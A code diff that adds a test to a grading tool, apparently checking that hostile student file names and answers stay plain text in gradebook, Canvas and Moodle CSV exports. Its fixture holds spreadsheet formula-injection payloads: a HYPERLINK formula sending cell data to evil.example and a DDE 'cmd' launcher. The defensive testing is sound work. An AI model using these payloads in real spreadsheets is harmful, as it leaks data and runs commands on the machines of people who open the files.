@@ -19,7 +19,7 @@ from test_grader_attacks import grader_processes
 from fourislands.cli import main
 from fourislands.grading import gradebook
 from fourislands.grading.output_folder import JOURNAL_NAME, OutputFolder
-from fourislands.grading.students import find_submissions
+from fourislands.grading.students import find_submissions, readable_id
 
 FAST = ["--jobs", "2", "--cell-timeout", "5", "--timeout", "30"]
 
@@ -191,3 +191,63 @@ def test_a_grader_killed_mid_run_leaves_nothing_running_and_the_next_run_recover
     assert "1 results of an interrupted run recovered" in capsys.readouterr().out
     assert set(rows(out)) == {"a-quick", "b-slow"} and rows(out)["a-quick"]["autograded"] == "7"
     assert not any(path.exists() for path in stale)
+
+
+def test_hostile_submissions_become_gradebooks_and_lms_files_that_stay_text(course, tmp_path, capsys):
+    # File names and written answers a spreadsheet would run as formulas, quotes, newlines, Cyrillic.
+    hostile = {
+        '=HYPERLINK("evil.example")': '=HYPERLINK("http://evil.example/?"&A1,"see marks")',
+        "+1+1": "+SUM(1+1)*cmd|' /C calc'!A0",
+        "@cmd": "@SUM(A1)",
+        "Ёжик в тумане": "-2+3\n'quoted', \"doubled\", a comma",
+    }
+    folder, out = tmp_path / "in", tmp_path / "out"
+    for name, answer in hostile.items():
+        notebook = answered(course, RIGHT)
+        for cell in notebook.cells:
+            if (cell.metadata.get("nbgrader") or {}).get("grade_id") == "w1":
+                cell.source = answer
+        submit(course, folder / f"{name}.ipynb").write_text(nbformat.writes(notebook))
+    assert main(["grade", str(folder), "--out", str(out), *FAST]) == 0
+    students = {readable_id(name): answer for name, answer in hostile.items()}
+    assert set(students) == {"HYPERLINK_evil.example", "1_1", "cmd", "Ёжик_в_тумане"}
+
+    def table(path: Path) -> list[list[str]]:
+        with path.open(encoding="utf-8", newline="") as handle:
+            cells = list(csv.reader(handle))
+        for row in cells:  # no cell opens as a formula: = + - @ only on numbers
+            for cell in row:
+                assert (
+                    not cell.lstrip().startswith(("=", "+", "-", "@"))
+                    or cell.lstrip("+-").replace(".", "").isdigit()
+                )
+        return cells
+
+    book = table(out / "gradebook-99-fixture.csv")
+    assert book[0] == ["student", "status", "q1", "q2", "q3", "w1", "autograded", "manual", "total", "file"]
+    assert book[1] == ["Points Possible", "", "2", "3", "2", "3", "7", "3", "10", ""]
+    assert {row[0]: row[1] for row in book[2:]} == dict.fromkeys(students, "awaiting manual marks")
+    written = {row[0]: gradebook.plain_cell(row[5]) for row in table(out / "written.csv")[1:]}
+    assert written == students  # each answer reads back as the student wrote it
+    # A spreadsheet types the marks and saves the file back without the apostrophes it hid.
+    with (out / "written.csv").open(encoding="utf-8", newline="") as handle:
+        marked = [{k: gradebook.plain_cell(v) for k, v in row.items()} for row in csv.DictReader(handle)]
+    with (out / "written.csv").open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=gradebook.WRITTEN_COLUMNS)
+        writer.writeheader()
+        writer.writerows({**row, "score": "3"} for row in marked)
+    assert main(["grade", "--merge-written", "--out", str(out)]) == 0
+    assert "changed since it was marked" not in capsys.readouterr().out
+    book = table(out / "gradebook-99-fixture.csv")
+    assert {row[0]: (row[1], row[-2]) for row in book[2:]} == dict.fromkeys(students, ("complete", "10"))
+    assert main(["export", str(out), "--format", "canvas"]) == 0
+    canvas = table(out / "canvas-grades.csv")
+    assert canvas[:2] == [
+        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "99-fixture"],
+        ["Points Possible", "", "", "", "", "10"],
+    ]
+    assert sorted(row[2] for row in canvas[2:]) == sorted(students) and {row[-1] for row in canvas[2:]} == {
+        "10"
+    }
+    assert main(["export", str(out), "--format", "moodle"]) == 0
+    assert table(out / "moodle-grades.csv")[0] == ["ID number", "99-fixture"]
